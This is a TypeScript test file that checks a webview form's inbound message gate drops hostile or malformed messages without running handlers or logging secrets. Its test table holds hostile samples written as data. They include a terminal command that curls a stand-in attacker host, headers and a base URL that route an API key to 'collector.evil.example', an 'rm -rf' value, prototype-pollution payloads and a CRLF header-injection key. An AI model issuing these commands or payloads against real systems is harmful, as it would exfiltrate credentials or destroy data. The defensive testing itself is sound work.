import * as assert from 'assert';
import {
  dispatchInbound, InboundGate, MAX_FIELD_CHARS, MAX_MESSAGE_CHARS, parseWebviewMessage, PROTOCOL_VERSION, secretProblems,
  type InboundHandlers, type WebviewMessage,
} from '../../src/core/form/formProtocol';
import { recordCase } from './hostile/report';

/** Handlers that only count: whatever the gate lets through is a side effect. */
function spyHandlers(): { handlers: InboundHandlers; calls: WebviewMessage[] } {
  const calls: WebviewMessage[] = [];
  const record = (m: WebviewMessage) => void calls.push(m);
  return { calls, handlers: { ready: record, validate: record, test: record, save: record, action: record } };
}

const draft = () => ({ fields: { modelName: 'gpt-4o', provider: 'openai', enabled: true }, advanced: [{ kind: 'header', name: 'X-Title', value: 'agents' }] });
const CANARY = 'sk-canary-1234567890abcdef';

/** A gate past its handshake, with its log and handler spies. */
function readyGate() {
  const logs: string[] = [];
  const gate = new InboundGate((m) => logs.push(m));
  const spy = spyHandlers();
  dispatchInbound(gate, { type: 'ready', id: 1, protocol: PROTOCOL_VERSION }, spy.handlers);
  assert.strictEqual(spy.calls.length, 1, 'the handshake itself reaches its handler');
  spy.calls.length = 0;
  return { gate, logs, ...spy };
}

function cyclic(): unknown {
  const d: Record<string, unknown> = { fields: {}, advanced: [] };
  d.self = d;
  return { type: 'validate', id: 2, draft: d };
}

function deep(levels: number): unknown {
  let v: unknown = 'x';
  for (let i = 0; i < levels; i++) v = { v };
  return v;
}

/** Hostile or malformed messages, by kind; each is sent to a gate that already did its handshake. */
const HOSTILE: Array<[string, () => unknown]> = [
  ['not an object: string', () => 'save'],
  ['not an object: null', () => null],
  ['not an object: array', () => [{ type: 'save', id: 2 }]],
  ['not a plain object: Date', () => new Date()],
  ['not a plain object: class instance', () => new (class Msg { type = 'validate'; id = 2; draft = draft(); })()],
  ['unknown type', () => ({ type: 'runCommand', id: 2, command: 'workbench.action.terminal.new' })],
  ['missing type', () => ({ id: 2, draft: draft() })],
  ['extra top-level field', () => ({ type: 'validate', id: 2, draft: draft(), url: 'https://evil.example' })],
  ['extra field carrying a key', () => ({ type: 'save', id: 2, draft: draft(), secret: {}, apiKey: CANARY })],
  ['extra field carrying headers', () => ({ type: 'test', id: 2, draft: draft(), secret: {}, headers: { Authorization: `Bearer ${CANARY}`, Host: 'collector.evil.example' } })],
  ['extra draft field carrying a URL', () => ({ type: 'test', id: 2, draft: { ...draft(), baseUrl: 'https://collector.evil.example/v1' }, secret: {} })],
  ['a command name as the type', () => ({ type: 'workbench.action.terminal.sendSequence', id: 2, args: { text: 'curl https://collector.evil.example\n' } })],
  ['missing field', () => ({ type: 'save', id: 2, draft: draft() })],
  ['unknown draft field', () => ({ type: 'validate', id: 2, draft: { fields: { modelName: 'x', command: 'rm -rf' }, advanced: [] } })],
  ['extra draft key', () => ({ type: 'validate', id: 2, draft: { ...draft(), secret: CANARY } })],
  ['wrong type: id is a string', () => ({ type: 'validate', id: '2', draft: draft() })],
  ['wrong type: id is a float', () => ({ type: 'validate', id: 2.5, draft: draft() })],
  ['wrong type: id is negative', () => ({ type: 'validate', id: -3, draft: draft() })],
  ['wrong type: id beyond safe integers', () => ({ type: 'validate', id: 2 ** 60, draft: draft() })],
  ['wrong type: field value is a number', () => ({ type: 'validate', id: 2, draft: { fields: { modelName: 42 }, advanced: [] } })],
  ['wrong type: enabled is a string', () => ({ type: 'validate', id: 2, draft: { fields: { enabled: 'yes' }, advanced: [] } })],
  ['wrong type: advanced is an object', () => ({ type: 'validate', id: 2, draft: { fields: {}, advanced: { headers: {} } } })],
  ['wrong type: advanced row kind', () => ({ type: 'validate', id: 2, draft: { fields: {}, advanced: [{ kind: 'cookie', name: 'a', value: 'b' }] } })],
  ['wrong type: secret value is an object', () => ({ type: 'save', id: 2, draft: draft(), secret: { apiKey: { toString: CANARY } } })],
  ['unknown secret field', () => ({ type: 'save', id: 2, draft: draft(), secret: { password: CANARY } })],
  ['unknown action (a command name)', () => ({ type: 'action', id: 2, action: 'workbench.action.openSettings' })],
  ['oversized field', () => ({ type: 'validate', id: 2, draft: { fields: { modelName: 'x'.repeat(MAX_FIELD_CHARS + 1) }, advanced: [] } })],
  ['oversized secret', () => ({ type: 'save', id: 2, draft: draft(), secret: { apiKey: 'k'.repeat(9000) } })],
  ['oversized message', () => ({ type: 'validate', id: 2, draft: { fields: {}, advanced: Array.from({ length: 140 }, (_, i) => ({ kind: 'header', name: `X-${i}`, value: 'v'.repeat(1000) })) } })],
  ['too many advanced rows', () => ({ type: 'validate', id: 2, draft: { fields: {}, advanced: Array.from({ length: 151 }, () => ({ kind: 'header', name: 'a', value: 'b' })) } })],
  ['too deep', () => ({ type: 'validate', id: 2, draft: { fields: {}, advanced: [{ kind: 'header', name: 'a', value: deep(20) }] } })],
  ['cyclic', cyclic],
  ['__proto__ key', () => JSON.parse(`{"type":"validate","id":2,"draft":{"fields":{},"advanced":[]},"__proto__":{"polluted":true}}`)],
  ['__proto__ in fields', () => JSON.parse(`{"type":"validate","id":2,"draft":{"fields":{"__proto__":{"isAdmin":true}},"advanced":[]}}`)],
  ['symbol key', () => ({ type: 'validate', id: 2, draft: draft(), [Symbol('x')]: 1 })],
  ['binary payload', () => ({ type: 'validate', id: 2, draft: { fields: {}, advanced: [] }, blob: new Uint8Array(10) })],
  ['wrong protocol version in ready', () => ({ type: 'ready', id: 2, protocol: 99 })],
];

describe('form protocol: inbound validation', () => {
  it('accepts each well-formed message and hands it to its handler', () => {
    const { gate, handlers, calls, logs } = readyGate();
    dispatchInbound(gate, { type: 'validate', id: 2, draft: draft() }, handlers);
    dispatchInbound(gate, { type: 'test', id: 3, draft: draft(), secret: { apiKey: 'sk-typed' } }, handlers);
    dispatchInbound(gate, { type: 'save', id: 4, draft: draft(), secret: {} }, handlers);
    dispatchInbound(gate, { type: 'action', id: 7, action: 'removeKey' }, handlers);
    assert.deepStrictEqual(calls.map((c) => `${c.type}#${c.id}`), ['validate#2', 'test#3', 'save#4', 'action#7']);
    assert.deepStrictEqual(logs, []);
  });

  it(`drops ${HOSTILE.length} kinds of hostile messages: no handler runs, each is logged by reason only`, () => {
    assert.ok(HOSTILE.length >= 10);
    for (const [kind, make] of HOSTILE) {
      const { gate, handlers, calls, logs } = readyGate();
      const message = make();
      const t0 = performance.now();
      const result = dispatchInbound(gate, message, handlers);
      const ms = performance.now() - t0;
      assert.strictEqual(result, undefined, kind);
      assert.strictEqual(calls.length, 0, `${kind}: a handler ran`);
      assert.strictEqual(logs.length, 1, `${kind}: not logged`);
      assert.match(logs[0], /dropped a webview message/, kind);
      assert.ok(!logs[0].includes(CANARY), `${kind}: the log echoes message content`);
      assert.strictEqual(gate.dropped, 1, kind);
      // The gate still works afterwards: a hostile message does not wedge the form.
      dispatchInbound(gate, { type: 'validate', id: 50, draft: draft() }, handlers);
      assert.strictEqual(calls.length, 1, `${kind}: the next good message was refused`);
      recordCase('webview', kind, ms, true, undefined, { handlerCalls: 0 });
    }
    assert.strictEqual(({} as Record<string, unknown>).polluted, undefined, 'Object.prototype was polluted');
    assert.strictEqual(({} as Record<string, unknown>).isAdmin, undefined, 'Object.prototype was polluted');
  });

  it('drops replayed and out-of-order ids', () => {
    const { gate, handlers, calls, logs } = readyGate();
    const save = { type: 'save', id: 5, draft: draft(), secret: {} };
    dispatchInbound(gate, save, handlers);
    dispatchInbound(gate, save, handlers);
    dispatchInbound(gate, { ...save, id: 4 }, handlers);
    dispatchInbound(gate, { type: 'ready', id: 1, protocol: PROTOCOL_VERSION }, handlers);
    assert.strictEqual(calls.length, 1);
    assert.strictEqual(logs.length, 3);
    assert.match(logs[0], /already used/);
    recordCase('webview', 'replayed and out-of-order ids (3 messages)', 0, true, undefined, { handlerCalls: 0 });
  });

  it('drops everything before the ready handshake', () => {
    const logs: string[] = [];
    const gate = new InboundGate((m) => logs.push(m));
    const { handlers, calls } = spyHandlers();
    dispatchInbound(gate, { type: 'save', id: 1, draft: draft(), secret: {} }, handlers);
    dispatchInbound(gate, { type: 'action', id: 2, action: 'delete' }, handlers);
    assert.strictEqual(calls.length, 0);
    assert.match(logs[0], /before the ready handshake/);
    recordCase('webview', 'messages before the ready handshake (2 messages)', 0, true, undefined, { handlerCalls: 0 });
    dispatchInbound(gate, { type: 'ready', id: 3, protocol: PROTOCOL_VERSION }, handlers);
    assert.strictEqual(calls.length, 1);
  });

  it('drops everything after dispose', () => {
    const { gate, handlers, calls, logs } = readyGate();
    gate.dispose();
    dispatchInbound(gate, { type: 'action', id: 2, action: 'delete' }, handlers);
    dispatchInbound(gate, { type: 'save', id: 3, draft: draft(), secret: {} }, handlers);
    assert.strictEqual(calls.length, 0);
    assert.deepStrictEqual(logs.map((l) => /form is closed/.test(l)), [true, true]);
    recordCase('webview', 'messages after dispose (2 messages)', 0, true, undefined, { handlerCalls: 0 });
  });

  it('measures size without walking a huge message whole', () => {
    const huge = { type: 'validate', id: 2, draft: { fields: {}, advanced: Array.from({ length: 100_000 }, () => ({ kind: 'header', name: 'a', value: 'b' })) } };
    const t0 = Date.now();
    const verdict = parseWebviewMessage(huge);
    assert.strictEqual(verdict.ok, false);
    assert.match(verdict.ok ? '' : verdict.reason, new RegExp(`${MAX_MESSAGE_CHARS}`));
    const ms = Date.now() - t0;
    assert.ok(ms < 200, 'the size check took too long');
    recordCase('webview', 'a 100,000-row message (size measured without walking it whole)', ms, true, undefined, { handlerCalls: 0 });
  });

  it('checks typed keys without echoing them', () => {
    const key = 'sk-abc\r\nX-Injected: 1';
    const problems = secretProblems('openai', { apiKey: key });
    assert.match(problems.apiKey ?? '', /line break/);
    assert.ok(!(problems.apiKey ?? '').includes('sk-abc'));
    assert.deepStrictEqual(secretProblems('openai', { apiKey: 'sk-good-key' }), {});
    const aws = secretProblems('amazon-bedrock', { accessKeyId: 'akia-lower', sessionToken: 'tok' });
    assert.match(aws.accessKeyId ?? '', /upper-case/);
    assert.match(aws.secretAccessKey ?? '', /secret access key/);
  });
});
